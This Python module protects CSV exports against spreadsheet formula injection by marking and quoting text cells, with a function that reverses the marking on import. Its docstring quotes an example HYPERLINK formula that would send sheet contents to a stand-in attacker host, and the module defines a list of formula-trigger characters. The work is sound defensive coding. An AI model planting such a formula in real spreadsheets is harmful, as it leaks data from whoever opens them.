"""Spreadsheet cells: every CSV cell the project writes opens as data, never as a formula.

A spreadsheet evaluates a cell that begins with `=`, `+`, `-` or `@` (and, for some, TAB or CR)
as a formula: `=HYPERLINK("http://evil.example/?"&A1, "details")` in a name or a reply's quoted
evidence would send the sheet's contents away when clicked (OWASP "CSV Injection"; CWE-1236).
Following OWASP, a text cell that could start a formula gets a leading `'`, the spreadsheet's
own "this is text" mark, and every text cell is quoted (RFC 4180 §2.6-2.7), so that a separator
or quote inside it cannot start a new cell. Genuine numbers are told apart by their Python type,
never by how they look: an `int` or a finite `float` from the report stays a bare number
(a count of -1 would still be -1); any `str`, even "-1" typed in a name, is text.

`restore` undoes exactly what `neutralise` added, for the recipient importer: a list exported,
edited in a spreadsheet and imported again keeps its values (see docs/recipients.md).
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Iterable, Sequence
from typing import TypeGuard

# OWASP's list (= + - @ TAB CR), LF (a cell may begin with a line break too), NUL (OWASP ASVS
# 5.0 V1.2.10), and the full-width forms (U+FF1D, U+FF0B, U+FF0D, U+FF20), in case a
# spreadsheet folds them to ASCII as some input methods do: marking them costs nothing.
TRIGGERS = frozenset("=+-@\t\r\n\x00\uff1d\uff0b\uff0d\uff20")
# Skipped when looking for a trigger: spaces (a spreadsheet may trim them on import) and our own
# quotes, so that a value which itself begins with "'=" is marked too, and `restore` can tell
# the mark it added from a quote that was in the data.
_SKIPPED = "' "
MARK = "'"

Cell = str | int | float


def could_be_formula(text: str) -> bool:
    """True when a spreadsheet could read `text` as a formula (once spaces and quotes go)."""
    body = text.lstrip(_SKIPPED)
    return bool(body) and body[0] in TRIGGERS


def neutralise(text: str) -> str:
    """The text as a cell that a spreadsheet shows as text: `'` before a possible formula."""
    return MARK + text if could_be_formula(text) else text


def restore(text: str) -> str:
    """The value a cell held before `neutralise`: its added `'` taken off, nothing else."""
    if text.startswith(MARK) and could_be_formula(text[1:]):
        return text[1:]
    return text


def is_number(value: object) -> TypeGuard[int | float]:
    """A genuine number of a report (a count, a rate), which the sheet may compute with."""
    if isinstance(value, bool):  # an int subclass, written as true/false text
        return False
    return isinstance(value, int) or (isinstance(value, float) and math.isfinite(value))


def csv_text(rows: Iterable[Sequence[Cell]]) -> str:
    """Rows (the header first) as CSV: numbers bare, every text cell quoted and neutralised."""
    buffer = io.StringIO()
    # QUOTE_NONNUMERIC quotes every cell that is not an int or float: all text, and nothing else.
    writer = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
    for row in rows:
        writer.writerow([value if is_number(value) else neutralise(str(value)) for value in row])
    return buffer.getvalue()
